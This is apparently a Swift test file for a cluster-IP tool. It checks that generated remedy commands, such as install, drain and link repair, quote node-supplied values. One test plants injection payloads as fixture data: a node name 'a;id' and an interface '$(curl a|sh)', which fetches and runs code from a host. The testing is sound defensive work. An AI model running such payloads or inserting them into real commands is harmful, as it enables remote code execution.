import ClusterModel
import Planning
import Responsibility
import Testing
import Wording

@Suite struct RemedyWordsTests {
    private static let settings = ClusterConfiguration(
        name: "web", address: IPAddress(10, 8, 0, 1), prefixLength: 16, interface: "eth0",
        mac: MACAddress(number: 0x0100_5e08_0001),
        scheme: .clusterIP(Placement(mode: .sourceIP, bucketCount: 2, seed: 42)))

    @Test func `the command that makes a cluster anew has all its settings`() {
        #expect(
            Remedy.install(Self.settings, owned: ["b": [2], "a": [1]]).sentence
                == "clusterip install --address 10.8.0.1/16 --interface eth0 --mac 01:00:5e:08:00:01 --hashmode sourceip "
                + "--total-nodes 2 --hash-init 42 --own a=1 --own b=2")
    }

    @Test func `a name that a node supplies is a word of a command, whatever it is`() throws {
        var node = NodeStatus(
            name: "a;id", state: .live,
            sample: ClusterSample(
                configuration: Self.settings, driver: "nftables", ownership: Ownership(owned: [1, 2]), counters: [],
                health: MulticastHealth(interfaceUp: false, macJoined: false)))
        node.sample?.configuration.interface = "$(curl a|sh)"
        var snapshot = ClusterSnapshot(configuration: try #require(node.sample).configuration, nodes: [node])
        #expect(
            snapshot.worstFindings().map(\.remedy.sentence) == [
                "on a;id: ip link set '$(curl a|sh)' up",
                "on a;id: ip maddress add 01:00:5e:08:00:01 dev '$(curl a|sh)'",
            ])
        (node.lost, node.sample, node.isBare) = (node.sample, nil, true)
        snapshot.nodes = [node]
        let remedies = snapshot.worstFindings().map(\.remedy.sentence)
        #expect(remedies.contains { $0.contains(" --interface '$(curl a|sh)' ") && $0.hasSuffix(" --own 'a;id=1-2'") })
        #expect(Remedy.drain(node: "a;id").sentence == "clusterip drain 'a;id'")
        let atOnce = Remedy.drain(node: "a", isImmediate: true)
        #expect(atOnce.sentence == "clusterip drain a --mode immediate")
    }

    static let requests: [(Remedy, PlanRequest?)] = [
        (.drain(node: "a"), .drain("a", mode: .graceful)),
        (.drain(node: "a", isImmediate: true), .drain("a", mode: .immediate)),
        (.takeOver(node: "a"), .takeOver("a", to: nil)),
        (.finalize(node: "a"), .finalize("a")), (.repair, .repair), (.rebalance, .rebalance(.count, mode: .graceful)),
        (.ifDead(node: "a", .takeOver(node: "a"), otherwise: .repair), .takeOver("a", to: nil)),
        (.first(.endNotrack(node: "a"), meanwhile: .drain(node: "a")), .drain("a", mode: .graceful)),
        (.inOrder([.repair, .rebalance]), .repair),
        (.inOrder([.reinstall(node: "a"), .repair]), .reinstall("a", interface: nil)),
        (.reinstall(node: "a"), .reinstall("a", interface: nil)), (.mendLink(node: "a", nil), nil),
        (.acceptChange, nil),
        (.command(["true"], on: "a"), nil),
    ]

    @Test(arguments: requests)
    func `a remedy that is a plan can be planned`(remedy: Remedy, request: PlanRequest?) {
        #expect(remedy.planRequest == request)
    }
}
